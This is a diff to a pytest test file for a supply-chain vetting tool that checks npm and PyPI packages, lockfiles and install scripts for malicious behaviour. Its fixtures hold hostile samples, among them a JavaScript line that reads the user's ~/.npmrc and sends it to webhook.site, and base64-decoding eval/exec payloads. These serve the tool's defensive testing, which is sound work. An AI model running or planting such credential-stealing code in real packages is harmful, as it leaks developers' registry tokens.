@@ -2,20 +2,49 @@
 
 import hashlib
 import json
+import os
+import sys
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from vetting.made import npm_tarball, sdist
+from vetting.test_lockfile import locked
 
 STEALER = "const s = require('fs').readFileSync(home + '/.npmrc');\nrequire('https').request('https://webhook.site/x').end(s);\n"
 HIDDEN = "eval(atob('YWxlcnQoMSk='))\n"
 
 
+@pytest.fixture(autouse=True)
+def own_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+
+
+@pytest.fixture
+def npm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A stand-in for npm: `npm pack NAME@1.0.0 --pack-destination=DIR` gives DIR the file registry/NAME.tgz."""
+    registry, programs = tmp_path / "registry", tmp_path / "bin"
+    registry.mkdir()
+    programs.mkdir()
+    (programs / "npm").write_text(
+        f"""#!{sys.executable}
+import pathlib, shutil, sys
+found = pathlib.Path({str(registry)!r}, sys.argv[2].rpartition("@")[0] + ".tgz")
+if not found.exists():
+    sys.exit("npm error 404 Not Found")
+assert "--ignore-scripts" in sys.argv
+shutil.copy(found, next(word for word in sys.argv if word.startswith("--pack-d")).partition("=")[2])
+"""
+    )
+    (programs / "npm").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{programs}{os.pathsep}{os.environ['PATH']}")
+    return registry
+
+
 def test_a_plain_package_is_allowed(clew: Any) -> None:
     npm_tarball(Path("demo.tgz"))
-    ran = clew("vet", "npm", "demo.tgz")
+    ran = clew("vet", "npm", "demo.tgz", "--no-detonate")
     assert ran.code == 0
     assert ran.out.startswith(" allow  demo 1.0.0  npm, sha256 ")
     assert "no advisories: give OSV records with --osv" in ran.out
@@ -33,21 +62,26 @@ def test_a_plain_package_is_allowed(clew: Any) -> None:
 )
 def test_the_exit_code_says_what_was_reached(clew: Any, code: str, fail_on: str, exit_code: int) -> None:
     npm_tarball(Path("demo.tgz"), {"index.js": code})
-    assert clew("vet", "npm", "demo.tgz", "--fail-on", fail_on).code == exit_code
+    assert clew("vet", "npm", "demo.tgz", "--no-detonate", "--fail-on", fail_on).code == exit_code
 
 
 def test_a_python_package_in_every_form(clew: Any) -> None:
     sdist(Path("demo-1.0.tar.gz"), {"setup.py": "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"})
-    shown = clew("vet", "pypi", "demo-1.0.tar.gz")
+    shown = clew("vet", "pypi", "demo-1.0.tar.gz", "--no-detonate")
     assert shown.code == 1
     assert shown.out.startswith(" block  demo 1.0 ")
     assert "setup.py:1" in shown.out
     assert (
-        json.loads(clew("vet", "pypi", "demo-1.0.tar.gz", "-f", "json").out)["packages"][0]["verdict"]
+        json.loads(clew("vet", "pypi", "demo-1.0.tar.gz", "--no-detonate", "-f", "json").out)["packages"][0][
+            "verdict"
+        ]
         == "block"
     )
-    assert json.loads(clew("vet", "pypi", "demo-1.0.tar.gz", "-f", "sarif").out)["version"] == "2.1.0"
-    assert clew("vet", "pypi", "demo-1.0.tar.gz", "-f", "html", "-o", "page.html").out == ""
+    assert (
+        json.loads(clew("vet", "pypi", "demo-1.0.tar.gz", "--no-detonate", "-f", "sarif").out)["version"]
+        == "2.1.0"
+    )
+    assert clew("vet", "pypi", "demo-1.0.tar.gz", "--no-detonate", "-f", "html", "-o", "page.html").out == ""
     assert "demo 1.0: block" in Path("page.html").read_text()
 
 
@@ -57,7 +91,7 @@ def test_what_was_looked_at_is_allowed_until_its_day(clew: Any) -> None:
     Path("allow.toml").write_text(
         f'[[allow]]\nrule = "static.runs-decoded"\nsha256 = "{digest}"\nuntil = 2999-01-01\nbecause = "read by us"\n'
     )
-    ran = clew("vet", "npm", "demo.tgz", "--fail-on", "review", "--allow", "allow.toml")
+    ran = clew("vet", "npm", "demo.tgz", "--no-detonate", "--fail-on", "review", "--allow", "allow.toml")
     assert (ran.code, ran.out[:7]) == (0, " allow ")
     assert "allowed by you until 2999-01-01: static.runs-decoded (read by us)" in ran.out
 
@@ -76,6 +110,92 @@ def test_what_is_wrong_is_said(clew: Any, arguments: tuple[str, ...], exit_code:
     npm_tarball(Path("demo.tgz"))
     Path("bad.tgz").write_text("x")
     Path("bad.toml").write_text("[[allow]]\nrule = 1\n")
-    ran = clew("vet", *arguments)
+    ran = clew("vet", *arguments, "--no-detonate")
     assert ran.code == exit_code
     assert said in ran.err
+
+
+def test_a_lockfile_is_vetted_where_something_runs_and_fetched_by_the_users_own_client(
+    clew: Any, npm: Path
+) -> None:
+    for name, code in {"good": "1", "bad": STEALER}.items():
+        npm_tarball(
+            npm / f"{name}.tgz", {"index.js": code}, name=name, scripts={"postinstall": "node index.js"}
+        )
+    Path("package-lock.json").write_text(locked("good!", "bad!", "missing!", "quiet", "still"))
+    ran = clew("vet", "lock", "package-lock.json", "--no-detonate")
+    assert ran.code == 1
+    lines = ran.out.splitlines()
+    assert lines[0].startswith(" allow  good 1.0.0")
+    assert "1 block, 1 review, 1 allow; 2 others run nothing when they are installed" in lines
+    assert "missing@1.0.0: npm cannot fetch it: npm error 404 Not Found" in ran.out
+    document = json.loads(clew("vet", "lock", "package-lock.json", "--no-detonate", "-f", "json").out)
+    assert [one["verdict"] for one in document["packages"]] == ["allow", "block", "review"]
+    assert document["packages"][1]["locked"] == {"file": "package-lock.json", "line": 11}
+    assert (document["quiet"], len(document["incomplete"])) == (2, 1)
+    [first, *_] = json.loads(clew("vet", "lock", "package-lock.json", "--no-detonate", "-f", "sarif").out)[
+        "runs"
+    ][0]["results"]
+    place = first["locations"][0]["physicalLocation"]
+    assert place == {"artifactLocation": {"uri": "package-lock.json"}, "region": {"startLine": 11}}
+
+
+def test_a_lockfile_that_names_another_archive_is_blocked(clew: Any, npm: Path) -> None:
+    npm_tarball(npm / "good.tgz", name="good")
+    wrong = "sha512-" + "A" * 86 + "=="
+    Path("package-lock.json").write_text(
+        locked("good!").replace('"version": "1.0.0"', f'"version": "1.0.0", "integrity": "{wrong}"')
+    )
+    ran = clew("vet", "lock", "package-lock.json", "--no-detonate")
+    assert ran.code == 1
+    assert "is not the archive that the lockfile names" in ran.out
+
+
+def test_a_lockfile_of_a_thousand_packages_fetches_none_that_runs_nothing(clew: Any, npm: Path) -> None:
+    npm_tarball(npm / "good.tgz", name="good")
+    Path("package-lock.json").write_text(locked("good!", *(f"quiet-{n}" for n in range(1000))))
+    ran = clew("vet", "lock", "package-lock.json", "--no-detonate")
+    assert (ran.code, ran.out.splitlines()[-1]) == (
+        0,
+        "good 1.0.0: allow; 1000 others run nothing when they are installed",
+    )
+
+
+def test_a_lockfile_that_does_not_tell_is_incomplete(clew: Any) -> None:
+    Path("package-lock.json").write_text(locked("a", version=1))
+    ran = clew("vet", "lock", "package-lock.json", "--no-detonate")
+    assert ran.code == 4
+    assert "does not tell whether 1 packages run a script" in ran.out
+
+
+def test_which_install_scripts_may_run(clew: Any, npm: Path) -> None:
+    for name, code in {
+        "good": "1",
+        "bad": STEALER,
+        "odd": HIDDEN.replace("eval", "x = eval"),
+        "known": "1",
+    }.items():
+        scripts = {"postinstall": "node other.js"}
+        npm_tarball(npm / f"{name}.tgz", {"index.js": code, "other.js": "1"}, name=name, scripts=scripts)
+    Path("package-lock.json").write_text(locked("good!", "bad!", "odd!", "known!", "quiet"))
+    Path("package.json").write_text(json.dumps({"name": "app", "allowScripts": {"known": False}}))
+    ran = clew("vet", "scripts", "package-lock.json", "--no-detonate")
+    assert ran.code == 1
+    assert json.loads(ran.out.partition("\n\n")[2]) == {"allowScripts": {"bad": False, "good@1.0.0": True}}
+    assert " pending  odd 1.0.0  look at this first: runs what it has just decoded" in ran.out
+    assert " deny  known 1.0.0  package.json says so already" in ran.out
+    assert "nothing weighs against it; postinstall: node other.js (it was not run)" in ran.out
+    document = json.loads(clew("vet", "scripts", "package-lock.json", "--no-detonate", "-f", "json").out)
+    assert document["allowScripts"] == {"bad": False, "good@1.0.0": True}
+    assert len(document["answers"]) == 4
+
+
+def test_two_versions_are_compared(clew: Any) -> None:
+    npm_tarball(Path("a.tgz"))
+    npm_tarball(
+        Path("b.tgz"), version="1.0.1", dependencies={"crypto-plain": "^4"}, scripts={"postinstall": "node x"}
+    )
+    ran = clew("vet", "diff", "a.tgz", "b.tgz", "--no-detonate", "--fail-on", "review")
+    assert (ran.code, ran.out[:20]) == (1, " review  demo 1.0.1 ")
+    assert "takes a dependency that it did not take" in ran.out and "crypto-plain" in ran.out
+    assert clew("vet", "diff", "a.tgz", "a.tgz", "--no-detonate", "--fail-on", "review").code == 0
